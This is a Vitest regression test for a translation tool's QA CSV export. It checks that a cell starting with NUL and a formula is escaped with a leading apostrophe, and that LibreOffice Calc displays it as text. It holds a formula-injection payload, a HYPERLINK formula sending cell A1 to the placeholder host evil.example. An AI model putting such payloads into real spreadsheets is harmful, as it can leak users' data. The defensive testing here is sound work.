/**
 * A CSV cell that starts with NUL and then a formula: LibreOffice Calc drops the NUL as it opens
 * the file and runs the rest (`\0=1+1` shows 2), so `tolk qa --format csv` must give it the
 * leading apostrophe the other formula-like cells get (OWASP ASVS 1.2.10 lists NUL with = + - @).
 * Found by qa-export-untrusted.property.test.ts. The LibreOffice part runs where it is installed.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, qaToCsv } from '../../src/write/qa-csv.js';
import { checkContent, hostileContent, parseCsv, rewriteSegment, TLS_NB } from '../helpers/qa-fixture.js';
import { tempDir } from '../helpers/temp-dir.js';

/** The seed's nb-NO 294fe-103 as a hostile translation: a link formula behind a NUL, with "TLS 1,2" (a real number-mismatch). */
const FORMULA = '\0=HYPERLINK("https://evil.example/?"&A1;"TLS 1,2")';

function report() {
  const content = hostileContent();
  rewriteSegment(content, TLS_NB, '294fe-103', FORMULA);
  return checkContent(content).report;
}

const TARGET = CSV_COLUMNS.indexOf('target');

describe('csv: a cell that starts with NUL and a formula', () => {
  const csv = qaToCsv(report());
  const row = parseCsv(csv.slice(1)).find((r) => r[TARGET]?.includes('HYPERLINK'));

  it('gets the leading apostrophe that keeps it text', () => {
    expect(row?.[TARGET]).toBe(`'${FORMULA}`);
  });

  const soffice = '/usr/bin/soffice';
  it.skipIf(!existsSync(soffice))('shows in LibreOffice Calc as text, not as the link the formula makes', () => {
    const dir = tempDir('tolk-csv-nul-');
    writeFileSync(join(dir, 'qa.csv'), csv);
    // Opened as a double-click does (UTF-8, comma, formulas evaluated); saved as the cells show.
    const r = spawnSync(soffice, [
      `-env:UserInstallation=${pathToFileURL(join(dir, 'profile')).href}`, '--headless',
      '--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true',
      '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,true,true,true,false',
      '--outdir', join(dir, 'out'), join(dir, 'qa.csv'),
    ], { encoding: 'utf8', timeout: 120_000 });
    expect(r.status, r.stderr).toBe(0);
    const shown = readFileSync(join(dir, 'out', 'qa.csv'), 'utf8').split('\n').find((line) => line.includes('evil.example'));
    // LibreOffice drops the NUL in either case; evaluated, the cell would show only "TLS 1,2".
    expect(shown).toContain(`'=HYPERLINK(""https://evil.example/?""&A1;""TLS 1,2"")`);
  }, 150_000);
});
